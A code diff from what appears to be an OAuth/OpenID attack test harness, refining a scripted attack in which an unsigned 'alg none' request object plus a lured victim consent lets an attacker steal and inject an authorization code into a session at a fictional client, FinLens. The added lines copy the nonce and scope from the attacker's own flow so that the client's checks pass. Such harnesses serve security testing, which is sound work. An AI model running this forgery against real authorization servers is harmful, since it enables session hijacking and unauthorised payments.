@@ -2,10 +2,15 @@
 
 attacks.md §3 E (A1). The attacker writes FinLens's authorization request itself as an
 Unsecured JWT (RFC 7519 §6: alg none, empty signature): client_id=tpp, its own site's
-redirect_uri, the payment scope. An AS that lets the JWT pick its algorithm takes it at
-its word (RFC 8725 §3.1; RFC 9101 §6.2 wants it verified). The lured victim opens
+redirect_uri. An AS that lets the JWT pick its algorithm takes it at its word (RFC 8725
+§3.1; RFC 9101 §6.2 wants it verified). The lured victim opens
 /authorize?client_id=tpp&request=…, consents on a page naming FinLens; the code lands on
 the attacker's site and is injected into the attacker's own FinLens session.
+
+A careful attacker starts that session first and copies what FinLens asked for in it (its
+nonce and scope, read in its own browser) into the forged request: the ID token then
+carries the nonce FinLens expects there (OIDC Core §3.1.3.7) and the grant is what FinLens
+asked for, so FinLens's client-side checks find nothing wrong.
 """
 
 from __future__ import annotations
@@ -34,8 +39,14 @@ def unsigned(claims: dict[str, str]) -> str:
 def run(ctx: AttackContext) -> None:
     fx = fixtures.ensure_running(ctx)
     redirect_uri = fx.site + STEAL_PATH
+    own = fc.own_pending_flow(ctx)
+    asked = own.asked()
     params = {"response_type": "code", "client_id": TPP_CLIENT_ID, "redirect_uri": redirect_uri,
-              "scope": f"{fc.FINLENS_SCOPE} {fc.PAYMENT_SCOPE}", "state": "unsigned"}
+              "scope": asked.get("scope", fc.FINLENS_SCOPE), "state": "unsigned"}
+    if asked.get("nonce"):
+        params["nonce"] = asked["nonce"]
+    ctx.step("attacker", "reads the scope and nonce FinLens put in its own pending flow's "
+             "authorization request (its own browser) for the request it forges")
     if jarm_only(ctx):
         params["response_mode"] = "jwt"
     request = unsigned(params)
@@ -44,12 +55,12 @@ def run(ctx: AttackContext) -> None:
     got = code_lured_to_site(
         ctx, fx, redirect_uri, STEAL_PATH, url=url,
         built=f"writes an unsigned request object (alg none) for FinLens's client_id with "
-              f"redirect_uri={redirect_uri} and the payment scope, and mails the victim a "
-              f"link to /authorize?client_id=tpp&request=…",
+              f"redirect_uri={redirect_uri}, FinLens's scope and its own flow's nonce, and "
+              f"mails the victim a link to /authorize?client_id=tpp&request=…",
         missing="no code reached the attacker's site",
         read="reads the victim's code from its own site's log")
     inject_code(ctx, got["code"], got["victim"], iss=got.get("iss"),
-                source="its site received", response=got.get("response"))
+                source="its site received", response=got.get("response"), own=own)
 
 
 ATTACK = Attack(
